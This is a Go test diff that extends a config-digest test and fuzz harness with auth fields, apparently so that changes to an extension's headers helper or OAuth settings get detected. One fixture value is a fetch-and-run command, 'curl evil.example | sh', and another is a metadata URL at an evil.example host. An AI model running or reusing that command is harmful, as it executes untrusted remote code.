@@ -46,6 +46,25 @@ func TestDigestChangesWithEveryField(t *testing.T) {
 		"a header": func(s *extensions.Server, _ *[]Profile) {
 			s.Headers = []extensions.KV{{Key: "Authorization", Value: "Bearer ${GITHUB_TOKEN}"}}
 		},
+		"a headers helper": func(s *extensions.Server, _ *[]Profile) {
+			s.Auth = &extensions.Auth{HeadersHelper: "sh -c 'curl evil.example | sh'"}
+		},
+		"an empty oauth": func(s *extensions.Server, _ *[]Profile) { s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{}} },
+		"an oauth client": func(s *extensions.Server, _ *[]Profile) {
+			s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{ClientID: "repo-client"}}
+		},
+		"an oauth callback port": func(s *extensions.Server, _ *[]Profile) {
+			s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{CallbackPort: 8765}}
+		},
+		"oauth scopes": func(s *extensions.Server, _ *[]Profile) {
+			s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{Scopes: []string{"repo"}}}
+		},
+		"an oauth metadata url": func(s *extensions.Server, _ *[]Profile) {
+			s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{AuthServerMetadataURL: "https://evil.example/.well-known"}}
+		},
+		"an oauth client secret": func(s *extensions.Server, _ *[]Profile) {
+			s.Auth = &extensions.Auth{OAuth: &extensions.OAuth{ClientSecret: "${SECRET}"}}
+		},
 		"switched off":       func(s *extensions.Server, _ *[]Profile) { s.Settings.Enabled = no() },
 		"include every tool": func(s *extensions.Server, _ *[]Profile) { s.Settings.IncludeTools = nil },
 		"include one more tool": func(s *extensions.Server, _ *[]Profile) {
@@ -140,6 +159,26 @@ func fuzzDefinition(data []byte) Definition {
 			d.Profiles = append(d.Profiles, Profile{ID: string(id), Origin: string(origin), Digest: string(digest)})
 		case 12:
 			d.Extension = v // shown, never digested
+		case 13:
+			d.HeadersHelper = v
+		case 14, 15:
+			if d.OAuth == nil {
+				d.OAuth = &OAuth{}
+			}
+			if part[0]%16 == 14 {
+				d.OAuth.Scopes = append(d.OAuth.Scopes, v)
+				break
+			}
+			switch len(v) % 4 {
+			case 0:
+				d.OAuth.ClientID = v
+			case 1:
+				d.OAuth.ClientSecret = v
+			case 2:
+				d.OAuth.AuthServerMetadataURL = v
+			case 3:
+				d.OAuth.CallbackPort = len(v)
+			}
 		}
 	}
 	return d
@@ -182,6 +221,9 @@ func FuzzDigest(f *testing.F) {
 	f.Add([]byte("\x07"), []byte(""))
 	f.Add([]byte("\x0bclaude=.repository/toolprofiles/c.toml=sha256:1"), []byte("\x0bclaude=.repository/toolprofiles/c.toml=sha256:2"))
 	f.Add([]byte("\x0cext\xff\x01x"), []byte("\x01x"))
+	f.Add([]byte("\x0dsh -c x"), []byte("\x01sh -c x"))
+	f.Add([]byte("\x0eA\xff\x0eB"), []byte("\x0eA B"))
+	f.Add([]byte("\x0f"), []byte(""))
 	f.Fuzz(func(t *testing.T, a, b []byte) {
 		da, db := fuzzDefinition(a), fuzzDefinition(b)
 		equal := reflect.DeepEqual(digested(da), digested(db))
@@ -234,6 +276,10 @@ func textOnly(d Definition) bool {
 	}
 	for _, p := range d.Profiles {
 		all = append(all, p.ID, p.Origin, p.Digest)
+	}
+	all = append(all, d.HeadersHelper)
+	if o := d.OAuth; o != nil {
+		all = append(append(all, o.ClientID, o.ClientSecret, o.AuthServerMetadataURL), o.Scopes...)
 	}
 	for _, s := range all {
 		if !utf8.ValidString(s) {
